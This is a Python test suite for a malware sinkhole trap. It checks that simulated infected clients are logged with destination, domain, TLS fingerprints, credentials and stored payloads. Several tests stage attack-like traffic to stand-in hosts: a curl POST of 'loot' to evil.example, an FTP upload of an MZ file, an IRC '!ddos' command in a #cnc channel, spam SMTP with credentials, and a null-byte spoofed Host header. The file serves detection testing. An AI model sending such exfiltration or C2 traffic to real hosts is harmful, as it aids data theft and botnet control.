"""The catch-all trap seen from an infected client: real clients (curl, openssl,
swaks, ftplib, ssh, nmap) connect to the pool address the sinkhole gave a
listed domain, on any port, and each connection ends in one `trap` event that
names the original destination, the domain, and what the client said."""

import ftplib
import hashlib
import io
import os
import random
import re
import socket
import subprocess
import time
import xml.etree.ElementTree as ET

import pytest

import harness
import trapcap
import trapenv
from trapenv import CLIENT_IP, CLIENT_IP6, sha256


def random_port(exclude=()):
    while True:
        p = random.randint(20000, 60999)
        if p not in exclude and p not in (trapenv.REDIRECT_PORT, trapenv.TPROXY_PORT):
            return p


def assert_conn_fields(ev, addr, port, domain, src_ip=CLIENT_IP):
    """What every trap event of the catch-all carries."""
    assert ev["event_type"] == "trap"
    assert ev["proto"] == "TCP"
    assert ev["src_ip"] == src_ip
    assert ev["dest_ip"] == addr
    assert ev["dest_port"] == port, "dest_port is not the original destination port"
    t = ev["trap"]
    assert t["phase"] == "end"
    assert t["listener"] == "redirect"
    assert t["domain"] == domain
    assert t["domain_source"] == "sinkhole_map"
    assert re.fullmatch(r"[0-9a-f]{24}", ev["event_id"])
    assert t["duration_ms"] >= 0


def assert_payload(env, ev, data, kind, since=0, filename=None):
    """data was stored: a fileinfo event, its sha256 in the trap event, the file on disk."""
    sha = sha256(data)
    assert sha in ev["trap"].get("payloads", []), (sha, ev["trap"])
    fi = env.fileinfo(sha, since=since)
    assert fi["fileinfo"]["kind"] == kind
    assert fi["fileinfo"]["size"] == len(data)
    assert fi["fileinfo"]["stored"] is True
    assert fi["fileinfo"]["truncated"] is False
    assert fi["src_port"] == ev["src_port"] and fi["dest_port"] == ev["dest_port"]
    assert fi["dest_ip"] == ev["dest_ip"]
    if filename is not None:
        assert fi["fileinfo"].get("filename") == filename
    path = env.payload_path(sha)
    assert path.is_file(), f"{path} missing"
    assert path.read_bytes() == data
    return fi


# ---------------------------------------------------------------- HTTP


def test_http_get_original_port_and_domain(env):
    addr = env.resolve("evil.example")
    assert addr.startswith("10.66.")
    mark = env.mark()
    r = env.curl("--resolve", f"evil.example:8080:{addr}", "http://evil.example:8080/gate.php?id=42",
                 "-o", "/dev/null", "-w", "%{http_code}")
    assert r.stdout == "200", r.stderr
    ev = env.wait_trap(dest_ip=addr, since=mark,
                       pred=lambda e: e.get("http", {}).get("url") == "/gate.php?id=42")[0]
    assert_conn_fields(ev, addr, 8080, "evil.example")
    assert ev["app_proto"] == "http"
    assert ev["trap"]["detected"] == "http"
    assert ev["trap"]["tls"] is False
    assert ev["trap"]["end"] == "client_closed"
    assert ev["trap"]["bytes_toserver"] > 0 and ev["trap"]["bytes_toclient"] > 0
    h = ev["http"]
    assert h["url"] == "/gate.php?id=42"
    assert h["http_method"] == "GET"
    assert h["http_user_agent"].startswith("curl/")
    assert h["hostname"] == "evil.example:8080"
    assert h["status"] == 200

    # The same event in the database, with its indexed columns.
    rows = harness.wait_until(lambda: env.st.db_rows(
        "SELECT * FROM events WHERE event_id = ?", (ev["event_id"],)), 10, what="database row")
    assert rows[0]["event_type"] == "trap"
    assert rows[0]["dest_ip"] == addr and rows[0]["dest_port"] == 8080
    assert rows[0]["domain"] == "evil.example"


def test_community_id_on_trap_and_fileinfo_events(env):
    """Community ID v1 of the connection, as Zeek/Suricata compute it."""
    addr = env.resolve("cid.evil.example")
    body = b"community"
    mark = env.mark()
    r = env.curl("--data-binary", body.decode(), f"http://{addr}:8081/cid", "-o", "/dev/null",
                 "-w", "%{local_port}")
    lport = int(r.stdout)
    ev = env.wait_trap(dest_ip=addr, since=mark)[0]
    fi = env.fileinfo(sha256(body), since=mark)
    want = trapenv.community_id(CLIENT_IP, addr, lport, 8081, 6)
    assert ev.get("community_id") == want, ev
    assert fi.get("community_id") == want, fi
    rows = harness.wait_until(lambda: env.st.db_rows(
        "SELECT community_id FROM events WHERE event_id = ?", (ev["event_id"],)), 10,
        what="database row")
    assert rows[0]["community_id"] == want


def test_http_post_body_is_stored(env):
    addr = env.resolve("evil.example")
    body = b"id=42&loot=" + os.urandom(24).hex().encode() + b"&end=1"
    f = env.dir / "post-body.bin"
    f.write_bytes(body)
    mark = env.mark()
    r = env.curl("--resolve", f"evil.example:8080:{addr}", "--data-binary", f"@{f}",
                 "-H", "Content-Type: application/octet-stream",
                 "http://evil.example:8080/upload.php", "-o", "/dev/null",
                 "-w", "%{http_code}")
    assert r.stdout == "200", r.stderr
    ev = env.wait_trap(dest_ip=addr, since=mark,
                       pred=lambda e: e.get("http", {}).get("url") == "/upload.php")[0]
    assert_conn_fields(ev, addr, 8080, "evil.example")
    assert ev["http"]["http_method"] == "POST"
    assert ev["http"]["url"] == "/upload.php"
    assert ev["http"]["request_body_length"] == len(body)
    assert_payload(env, ev, body, "http_request_body", since=mark)


def test_source_port_is_the_clients(env):
    """The event names the port the client really used, even when the same
    client port talks to several ports of the trap (bots and scanners that
    reuse a fixed source port); the community id must match the wire."""
    addr = env.resolve("srcport.drop.example")
    sport = random.randint(40000, 44999)
    ports = random.sample(range(20000, 30000), 3)
    mark = env.mark()
    socks = []
    try:
        for dport in ports:
            with env.in_client():
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind((CLIENT_IP, sport))
            s.settimeout(5)
            s.connect((addr, dport))
            s.sendall(b"hello from a fixed port\n")
            socks.append(s)
    finally:
        time.sleep(0.3)
        for s in socks:
            s.close()
    evs = env.wait_for(lambda e: e["dest_ip"] == addr, since=mark, count=3,
                       what="events of the three connections")
    got = sorted((e["dest_port"], e["src_port"]) for e in evs)
    assert got == sorted((p, sport) for p in ports), f"client port {sport}, events {got}"
    for e in evs:
        assert e.get("community_id") == trapenv.community_id(CLIENT_IP, addr, sport,
                                                             e["dest_port"], 6)


# ---------------------------------------------------------------- TLS


def test_tls_curl_sni_and_ja3(env):
    addr = env.resolve("c2.botnet.example")
    mark = env.mark()
    with trapcap.Capture(env.in_client(), env.topo.v_client) as cap:
        r = env.curl("-k", "--resolve", f"c2.botnet.example:443:{addr}",
                     "https://c2.botnet.example/panel/login.php", "-o", "/dev/null",
                     "-w", "%{http_code} %{local_port}")
        code, lport = r.stdout.split()
        assert code == "200", r.stderr
        ev = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == 443)[0]
        pcap = cap.write(env.dir / "tls-curl.pcap")
    assert_conn_fields(ev, addr, 443, "c2.botnet.example")
    assert ev["trap"]["tls"] is True
    assert ev["tls"]["sni"] == "c2.botnet.example"
    assert ev["tls_session"]["version"].startswith("TLS")
    assert ev["tls_session"]["cipher"]
    # The request inside TLS was answered and recorded.
    assert ev["app_proto"] == "http"
    assert ev["http"]["url"] == "/panel/login.php"

    # JA3 as tshark computes it from the captured ClientHello.
    rows = trapcap.tshark_fields(
        pcap, f"tls.handshake.type == 1 && tcp.srcport == {lport}",
        ["tls.handshake.ja3", "tls.handshake.ja3_full", "tls.handshake.extensions_server_name"])
    assert len(rows) == 1, rows
    ja3_hash, ja3_full, sni = rows[0]
    assert sni == "c2.botnet.example"
    assert ev["tls"]["ja3"]["string"] == ja3_full
    assert ev["tls"]["ja3"]["hash"] == ja3_hash
    assert hashlib.md5(ja3_full.encode()).hexdigest() == ja3_hash
    assert re.fullmatch(r"t1[0-3]d\d{4}[0-9a-z]{2}_[0-9a-f]{12}_[0-9a-f]{12}", ev["tls"]["ja4"])


def test_tls_certificate_is_for_the_sni_and_signed_by_local_ca(env):
    addr = env.resolve("c2.botnet.example")
    port = 4443
    sni = "x.c2.botnet.example"
    ca = env.ca_cert()
    assert ca.is_file()
    mark = env.mark()
    r = env.client(["openssl", "s_client", "-connect", f"{addr}:{port}", "-servername", sni,
                    "-CAfile", ca, "-verify_return_error", "-verify_hostname", sni,
                    "-showcerts"], input="", timeout=20)
    assert r.returncode == 0, r.stdout[-2000:] + r.stderr[-2000:]
    assert "Verify return code: 0 (ok)" in r.stdout
    leaf = re.search(r"-----BEGIN CERTIFICATE-----.*?-----END CERTIFICATE-----\n", r.stdout,
                     re.S).group(0)
    pem = env.dir / "leaf.pem"
    pem.write_text(leaf)
    info = trapenv.run(["openssl", "x509", "-in", pem, "-noout", "-subject", "-issuer", "-ext",
                        "subjectAltName", "-nameopt", "RFC2253"], check=True).stdout
    assert f"subject=CN={sni}" in info
    assert f"DNS:{sni}" in info
    ca_subject = trapenv.run(["openssl", "x509", "-in", ca, "-noout", "-subject", "-nameopt",
                              "RFC2253"], check=True).stdout.strip().replace("subject=", "")
    assert f"issuer={ca_subject}" in info
    v = trapenv.run(["openssl", "verify", "-CAfile", ca, pem])
    assert v.returncode == 0 and ": OK" in v.stdout, v.stdout + v.stderr

    # A client that trusts the local CA (no -k) gets its page.
    r = env.curl("--cacert", ca, "--resolve", f"{sni}:{port}:{addr}", f"https://{sni}:{port}/x",
                 "-o", "/dev/null", "-w", "%{http_code}")
    assert r.stdout == "200", r.stderr

    evs = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == port,
                        timeout=15)
    ev = evs[0]
    assert_conn_fields(ev, addr, port, "c2.botnet.example")
    assert ev["trap"]["tls"] is True
    assert ev["tls"]["sni"] == sni
    assert hashlib.md5(ev["tls"]["ja3"]["string"].encode()).hexdigest() == ev["tls"]["ja3"]["hash"]


def cert_subject_and_san(env, pem_text):
    pem = env.dir / f"cert-{random.randrange(1 << 30)}.pem"
    pem.write_text(pem_text)
    return trapenv.run(["openssl", "x509", "-in", pem, "-noout", "-subject", "-ext",
                        "subjectAltName", "-nameopt", "RFC2253"], check=True).stdout


def test_tls_without_sni_gets_the_mapped_domain(env):
    """No SNI: the certificate is for the domain the address was handed out for."""
    addr = env.resolve("nosni.c2.botnet.example")
    mark = env.mark()
    r = env.client(["openssl", "s_client", "-connect", f"{addr}:8443", "-noservername",
                    "-CAfile", env.ca_cert(), "-verify_return_error", "-verify_hostname",
                    "nosni.c2.botnet.example"], input="", timeout=20)
    assert r.returncode == 0, r.stdout[-1500:] + r.stderr[-1500:]
    leaf = re.search(r"-----BEGIN CERTIFICATE-----.*?-----END CERTIFICATE-----\n", r.stdout,
                     re.S).group(0)
    info = cert_subject_and_san(env, leaf)
    assert "subject=CN=nosni.c2.botnet.example" in info
    assert "DNS:nosni.c2.botnet.example" in info
    ev = env.wait_trap(dest_ip=addr, since=mark)[0]
    assert ev["trap"]["tls"] is True
    assert "sni" not in ev["tls"]
    assert ev["trap"]["domain"] == "nosni.c2.botnet.example"


def test_tls_sni_names_the_domain_when_the_address_does_not(env):
    """To the trap's own listen address (no mapping), the SNI is the domain."""
    mark = env.mark()
    r = env.curl("-k", "--resolve", f"unmapped.example:443:{trapenv.TRAP_IP}",
                 "https://unmapped.example/", "-o", "/dev/null",
                 "-w", "%{http_code}")
    assert r.stdout == "200", r.stderr
    ev = env.wait_trap(dest_ip=trapenv.TRAP_IP, since=mark,
                       pred=lambda e: e["dest_port"] == 443)[0]
    assert ev["dest_port"] == 443
    assert ev["trap"]["domain"] == "unmapped.example"
    assert ev["trap"]["domain_source"] == "tls_sni"
    assert ev["tls"]["sni"] == "unmapped.example"


def test_http_host_names_the_domain_when_the_address_does_not(env):
    """To the trap's own listen address (no mapping), the Host header is the domain, without
    its port and lower-cased; a Host that is an address, or not a host name, names none."""
    for host, domain in (("Unmapped-Web.Example:8080", "unmapped-web.example"),
                         ("10.1.2.3:80", None), ("[::1]:80", None),
                         ("evil.example\\x00.paypal.com", None)):
        mark = env.mark()
        r = env.curl("-H", f"Host: {host}", f"http://{trapenv.TRAP_IP}/", "-o", "/dev/null",
                     "-w", "%{http_code}")
        assert r.stdout == "200", r.stderr
        ev = env.wait_trap(dest_ip=trapenv.TRAP_IP, since=mark,
                           pred=lambda e: e["dest_port"] == 80)[0]
        if domain is None:
            assert "domain" not in ev["trap"], (host, ev["trap"])
        else:
            assert ev["trap"]["domain"] == domain
            assert ev["trap"]["domain_source"] == "http_host"
        assert ev["http"]["hostname"] == host


# ---------------------------------------------------------------- SMTP


def test_smtp_swaks_message_and_credentials(env):
    addr = env.resolve("mail.evil.example")
    mark = env.mark()
    r = env.client(["swaks", "--to", "victim@example.org", "--from", "bot@evil.example",
                    "--server", f"{addr}:25", "--auth", "LOGIN", "--auth-user", "u",
                    "--auth-password", "p", "--header", "Subject: hi", "--body", "spam",
                    "--timeout", "10"], timeout=40)
    assert r.returncode == 0, r.stdout + r.stderr
    # The message as swaks sent it: the lines after 354, up to the lone dot.
    out = r.stdout.splitlines()
    start = next(i for i, line in enumerate(out) if line.startswith("<-  354"))
    sent = []
    for line in out[start + 1:]:
        assert line.startswith(" -> "), line
        text = line[4:].rstrip("\r")
        if text == ".":
            break
        sent.append(text)
    message = ("\r\n".join(sent) + "\r\n").encode()

    ev = env.wait_trap(dest_ip=addr, since=mark)[0]
    assert_conn_fields(ev, addr, 25, "mail.evil.example")
    assert ev["app_proto"] == "smtp"
    s = ev["smtp"]
    assert s["mail_from"] == "<bot@evil.example>"
    assert s["rcpt_to"] == ["<victim@example.org>"]
    assert s["messages"] == 1
    assert s["helo"]
    e = ev["email"]
    assert e["from"] == "bot@evil.example"
    assert e["to"] == ["victim@example.org"]
    assert e["subject"] == "hi"
    assert e["x_mailer"].startswith("swaks")
    assert ev["credentials"] == {"username": "u", "password": "p", "method": "LOGIN"}
    fi = assert_payload(env, ev, message, "smtp_message", since=mark)
    assert fi["fileinfo"]["filename"].endswith(".eml")
    assert b"Subject: hi\r\n" in message and b"\r\n\r\nspam\r\n" in message


# ---------------------------------------------------------------- FTP


def test_ftp_passive_upload_is_stored(env):
    """login, PASV, STOR: the uploaded bytes are kept under the file's name.

    The passive data connection goes to a port the trap opened on the pool
    address; the catch-all must not divert it away from that listener."""
    addr = env.resolve("ftp.evil.example")
    data = b"MZ" + os.urandom(3000)
    mark = env.mark()
    replies, error = [], None
    with env.in_client():
        f = ftplib.FTP()
        try:
            replies.append(f.connect(addr, 21, timeout=8))
            replies.append(f.login("anon", "hunter2"))
            f.set_pasv(True)
            replies.append(f.storbinary("STOR loot.bin", io.BytesIO(data)))
            replies.append(f.quit())
        except (ftplib.all_errors + (EOFError,)) as e:
            error = e
        finally:
            f.close()
    ev = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == 21)[0]
    assert_conn_fields(ev, addr, 21, "ftp.evil.example")
    assert ev["app_proto"] == "ftp"
    assert ev["credentials"]["username"] == "anon"
    assert ev["credentials"]["password"] == "hunter2"
    assert ev["ftp"]["stor"] == ["loot.bin"]
    assert ev["ftp"]["mode"] == "passive"
    dport = ev["ftp"]["dynamic_port"]
    diverted = [e for e in env.events(mark, "trap") if e["dest_port"] == dport]
    assert error is None and replies[2].startswith("226"), (
        f"STOR failed: {error!r}; replies {replies}; the data connection to {addr}:{dport} "
        f"was recorded as {[(e['trap']['listener'], e['trap']['detected']) for e in diverted]}")
    assert not diverted, "the data connection was taken as a connection of its own"
    assert_payload(env, ev, data, "ftp_upload", since=mark, filename="loot.bin")


# ---------------------------------------------------------------- IRC


@pytest.mark.parametrize("port", [6667, 31337])
def test_irc_channel_and_commands(env, port):
    addr = env.resolve("irc.evil.example")
    mark = env.mark()
    s = env.tcp(addr, port)
    try:
        s.sendall(b"NICK bot4242\r\nUSER bot 0 * :Bot Real\r\n")
        got = b""
        deadline = time.monotonic() + 5
        while b" 001 " not in got and time.monotonic() < deadline:
            got += s.recv(65536)
        assert b" 001 bot4242 " in got, got
        s.sendall(b"JOIN #cnc\r\nPRIVMSG #cnc :!ddos 192.0.2.7 80\r\nQUIT :bye\r\n")
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
    finally:
        s.close()
    assert b"JOIN :#cnc" in got
    ev = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == port)[0]
    assert_conn_fields(ev, addr, port, "irc.evil.example")
    assert ev["app_proto"] == "irc"
    irc = ev["irc"]
    assert irc["nick"] == "bot4242"
    assert irc["user"] == "bot"
    assert irc["realname"] == "Bot Real"
    assert irc["channels"] == ["#cnc"]
    assert irc["commands"] == ["NICK bot4242", "USER bot 0 * :Bot Real", "JOIN #cnc",
                               "PRIVMSG #cnc :!ddos 192.0.2.7 80", "QUIT :bye"]
    assert irc["messages"] == [{"type": "PRIVMSG", "target": "#cnc",
                                "text": "!ddos 192.0.2.7 80"}]


# ---------------------------------------------------------------- SSH


@pytest.mark.parametrize("port", [22, 2222])
def test_ssh_client_version(env, port):
    addr = env.resolve("ssh.evil.example")
    ver = subprocess.run(["ssh", "-V"], capture_output=True, text=True).stderr.strip()
    software, comments = re.match(r"(OpenSSH_\S+) ([^,]+),", ver).groups()
    mark = env.mark()
    r = env.client(["ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
                    "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
                    "-p", port, f"u@{addr}", "true"], timeout=20)
    assert r.returncode == 255  # the trap takes the identification and closes
    ev = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == port)[0]
    assert_conn_fields(ev, addr, port, "ssh.evil.example")
    assert ev["app_proto"] == "ssh"
    assert ev["trap"]["end"] == "ssh_recorded"
    c = ev["ssh"]["client"]
    assert c["proto_version"] == "2.0"
    assert c["software_version"] == software
    assert c["comments"] == comments
    hassh = c["hassh"]
    assert hassh["string"].count(";") == 3
    assert "curve25519-sha256" in hassh["string"].split(";")[0].split(",")
    assert hashlib.md5(hassh["string"].encode()).hexdigest() == hassh["hash"]


# ---------------------------------------------------------------- scanning and junk


def test_nmap_service_scan(env):
    addr = env.resolve("scan.drop.example")
    pid = env.trap_pid()
    ports = sorted(random.sample(range(20000, 61000), 3))
    mark = env.mark()
    r = env.client(["nmap", "-sV", "-Pn", "-n", "-p", ",".join(map(str, ports)), "-oX", "-",
                    addr], timeout=180)
    assert r.returncode == 0, r.stderr
    root = ET.fromstring(r.stdout)
    states = {int(p.get("portid")): p.find("state").get("state")
              for p in root.iter("port")}
    assert states == {p: "open" for p in ports}
    for p in ports:
        evs = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e, p=p: e["dest_port"] == p)
        for ev in evs:
            assert_conn_fields(ev, addr, p, "scan.drop.example")
    assert env.trap_pid() == pid, "the trap worker was restarted"
    env.assert_serving()


def test_garbage_is_kept_as_raw_payload(env):
    addr = env.resolve("junk.drop.example")
    port = random_port()
    data = b"\xfe\xed\xfa\xce" + os.urandom(2000)
    mark = env.mark()
    s = env.tcp(addr, port)
    s.sendall(data)
    s.shutdown(socket.SHUT_WR)
    try:
        while s.recv(4096):
            pass
    except (socket.timeout, ConnectionResetError):
        pass
    s.close()
    ev = env.wait_trap(dest_ip=addr, since=mark)[0]
    assert_conn_fields(ev, addr, port, "junk.drop.example")
    assert "app_proto" not in ev
    assert ev["trap"]["detected"] == "unknown"
    assert ev["trap"]["bytes_toserver"] == len(data)
    assert ev["raw"]["length"] == len(data)
    assert_payload(env, ev, data, "raw", since=mark)


def test_silent_client_ends_after_read_timeout(env):
    addr = env.resolve("quiet.drop.example")
    port = random_port()
    mark = env.mark()
    s = env.tcp(addr, port, timeout=10)
    t0 = time.monotonic()
    try:
        assert s.recv(1) == b"", "the trap sent something to a client that said nothing"
        closed_after = time.monotonic() - t0
    finally:
        s.close()
    assert 1.5 <= closed_after <= 5, closed_after
    ev = env.wait_trap(dest_ip=addr, since=mark)[0]
    assert_conn_fields(ev, addr, port, "quiet.drop.example")
    assert ev["trap"]["end"] == "silent"
    assert ev["trap"]["bytes_toserver"] == 0
    assert 1900 <= ev["trap"]["duration_ms"] <= 4500


# ---------------------------------------------------------------- IPv6


def test_ipv6_pool_address_is_attributed(env):
    addr6 = env.resolve("v6.evil.example", "AAAA")
    assert addr6.startswith("fd66::")
    mark = env.mark()
    r = env.curl("-g", f"http://[{addr6}]:8080/v6.php", "-o", "/dev/null",
                 "-w", "%{http_code}")
    assert r.returncode == 0, f"curl to [{addr6}]:8080 from the client failed: {r.stderr}"
    assert r.stdout == "200"
    ev = env.wait_trap(dest_ip=addr6, since=mark)[0]
    assert_conn_fields(ev, addr6, 8080, "v6.evil.example", src_ip=CLIENT_IP6)
    assert ev["http"]["url"] == "/v6.php"


# ---------------------------------------------------------------- the sinkhole host itself


@pytest.mark.parametrize("rdtype", ["A", "AAAA"])
def test_the_sinkhole_hosts_own_connection_to_a_pool_address(env, rdtype):
    """A program on the sinkhole host itself (an analyst's curl, a sandbox run
    there) that connects to a pool address meets the trap too, attributed to
    the domain, as a client on the network does."""
    name = f"self{rdtype.lower()}.evil.example"
    addr = env.resolve(name, rdtype)
    host = f"[{addr}]" if ":" in addr else addr
    mark = env.mark()
    r = env.in_trap(["curl", "-sS", "-g", "--max-time", "5", "-o", "/dev/null", "-w",
                     "%{http_code}", f"http://{host}:8081/self.php"], timeout=20)
    assert r.returncode == 0 and r.stdout == "200", f"{r.stdout} {r.stderr}"
    ev = env.wait_trap(dest_ip=addr, since=mark)[0]
    assert ev["dest_port"] == 8081 and ev["trap"]["domain"] == name, ev
    assert ev["trap"]["listener"] == "redirect" and ev["http"]["url"] == "/self.php"


def test_the_sinkhole_hosts_own_datagram_to_a_pool_address(env):
    """The same for UDP: a dig on the sinkhole host at a pool address is
    answered by the trap (the looped-back datagram meets the TPROXY rule)."""
    addr = env.resolve("selfudp.evil.example")
    mark = env.mark()
    r = env.in_trap(["dig", "+time=2", "+tries=1", "+short", f"@{addr}", "-p", "53",
                     "anything.example"], timeout=20)
    assert r.returncode == 0 and r.stdout.split() == [addr], f"{r.stdout} {r.stderr}"
    ev = env.wait_trap(dest_ip=addr, since=mark, phase="datagram",
                       pred=lambda e: e["dest_port"] == 53)[0]
    assert ev["trap"]["domain"] == "selfudp.evil.example", ev


def test_more_payloads_than_the_event_lists_are_counted(env):
    """Twelve messages on one SMTP connection: twelve payloads, each with its fileinfo; the
    trap event lists the first eight and says there were twelve."""
    addr = env.resolve("bulk.mail.evil.example")
    mark = env.mark()
    script = (
        "import smtplib\n"
        f"s = smtplib.SMTP({addr!r}, 25, timeout=10)\n"
        "s.ehlo('bot')\n"
        "for i in range(12):\n"
        "    s.sendmail('bot@evil.example', ['v@example.org'],\n"
        "               f'Subject: m{i}\\r\\n\\r\\nbody number {i}\\r\\n')\n"
        "s.quit()\n")
    r = env.client(["/usr/bin/python3", "-c", script], timeout=40)
    assert r.returncode == 0, r.stdout + r.stderr
    ev = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == 25)[0]
    assert len(ev["trap"]["payloads"]) == 8
    assert ev["trap"]["payload_count"] == 12
    files = [e for e in env.events(since=mark, event_type="fileinfo")
             if e.get("dest_ip") == addr]
    assert len({f["fileinfo"]["sha256"] for f in files}) == 12
    assert set(ev["trap"]["payloads"]) <= {f["fileinfo"]["sha256"] for f in files}


def test_idle_client_of_a_server_first_port_ends_silent(env):
    """On a port where the server speaks first (SMTP's greeting), a client that
    never says anything is closed at the read timeout after the responder's
    goodbye, and that end is `silent` (as on any other port), not `server_closed`."""
    addr = env.resolve("quiet-smtp.drop.example")
    mark = env.mark()
    s = env.tcp(addr, 25, timeout=10)
    try:
        got = b""
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            got += chunk
    finally:
        s.close()
    assert got.startswith(b"220 "), got
    ev = env.wait_trap(dest_ip=addr, since=mark)[0]
    assert ev["trap"]["end"] == "silent", ev["trap"]
    assert ev["trap"]["bytes_toserver"] == 0
